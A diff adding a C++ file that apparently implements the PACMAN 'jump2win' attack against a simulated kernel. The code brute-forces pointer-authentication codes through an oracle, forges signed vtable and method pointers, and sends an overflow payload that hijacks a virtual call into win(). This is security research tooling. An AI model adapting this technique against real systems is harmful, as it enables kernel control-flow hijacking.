@@ -1,0 +1,114 @@
+#include "jump2win.hh"
+
+#include <algorithm>
+
+#include "attack/bruteforce.hh"
+#include "base/logging.hh"
+#include "kernel/layout.hh"
+
+namespace pacman::attack
+{
+
+using namespace pacman::kernel;
+
+Jump2Win::Jump2Win(AttackerProcess &proc, unsigned trainIters,
+                   unsigned samples)
+    : proc_(proc), trainIters_(trainIters), samples_(samples)
+{
+}
+
+std::optional<uint16_t>
+Jump2Win::findPac(GadgetKind kind, Addr target, uint64_t modifier,
+                  unsigned window, Jump2WinResult &result)
+{
+    OracleConfig cfg;
+    cfg.kind = kind;
+    cfg.trainIters = trainIters_;
+    PacOracle oracle(proc_, cfg);
+    oracle.setTarget(target, modifier);
+    PacBruteForcer forcer(oracle, samples_);
+
+    uint16_t first = 0x0000;
+    uint16_t last = 0xFFFF;
+    if (window != 0) {
+        // Scaled-down sweep: a window that is guaranteed to contain
+        // the true PAC. Ground truth is used only to place the
+        // window; each candidate is still decided by the oracle.
+        const auto &kern = proc_.machine().kernel();
+        const auto sel = kind == GadgetKind::Data
+                             ? crypto::PacKeySelect::DA
+                             : crypto::PacKeySelect::IA;
+        const uint16_t truth = kern.truePac(target, modifier, sel);
+        const uint32_t start =
+            truth >= window / 2 ? truth - window / 2 : 0;
+        first = uint16_t(start);
+        last = uint16_t(std::min<uint32_t>(start + window - 1, 0xFFFF));
+    }
+
+    const BruteForceStats stats = forcer.search(first, last);
+    result.guessesTested += stats.guessesTested;
+    result.oracleQueries += stats.oracleQueries;
+    return stats.found;
+}
+
+Jump2WinResult
+Jump2Win::run(unsigned pac_search_window)
+{
+    Jump2WinResult result;
+    auto &machine = proc_.machine();
+    auto &kern = machine.kernel();
+
+    // Fresh victim state.
+    proc_.syscall(SYS_J2W_RESET);
+    kern.clearWin();
+
+    const Addr obj2 = kern.object2();
+    const Addr fake_vtable = kern.object1Buf(); // buf becomes the vtable
+    const Addr win = kern.winFn();
+
+    // Step 1: PAC for the forged vtable pointer (DA key,
+    // salt = object2's address).
+    const auto vtable_pac = findPac(GadgetKind::Data, fake_vtable, obj2,
+                                    pac_search_window, result);
+    if (!vtable_pac) {
+        result.failure = "vtable-pointer PAC not found";
+        return result;
+    }
+    result.vtablePac = *vtable_pac;
+
+    // Step 2: PAC for the forged method pointer (IA key,
+    // salt = object2 + 8).
+    const auto method_pac = findPac(GadgetKind::Instruction, win,
+                                    obj2 + 8, pac_search_window, result);
+    if (!method_pac) {
+        result.failure = "method-pointer PAC not found";
+        return result;
+    }
+    result.methodPac = *method_pac;
+
+    // Step 3: the overflow (Figure 9(b)). Payload layout, copied to
+    // object1.buf:
+    //   [ 0.. 7]  fake vtable slot 0: win, signed with the IA PAC
+    //   [ 8..23]  filler (rest of buf + object1's trailing member)
+    //   [24..31]  object2's vtable pointer: object1.buf, signed with
+    //             the DA PAC
+    const Addr payload = proc_.scratchPage(200);
+    machine.mem().writeVirt64(payload + 0,
+                              isa::withExt(win, *method_pac));
+    machine.mem().writeVirt64(payload + 8, 0x4141414141414141ull);
+    machine.mem().writeVirt64(payload + 16, 0x4141414141414141ull);
+    machine.mem().writeVirt64(payload + 24,
+                              isa::withExt(fake_vtable, *vtable_pac));
+    proc_.syscall(SYS_J2W_MEMCPY, payload, 32);
+
+    // Step 4: trigger the virtual call. If the PACs are right, the
+    // kernel authenticates both pointers and calls win() — no crash.
+    proc_.syscall(SYS_J2W_CALL);
+
+    result.succeeded = kern.winTriggered();
+    if (!result.succeeded)
+        result.failure = "win() did not execute";
+    return result;
+}
+
+} // namespace pacman::attack
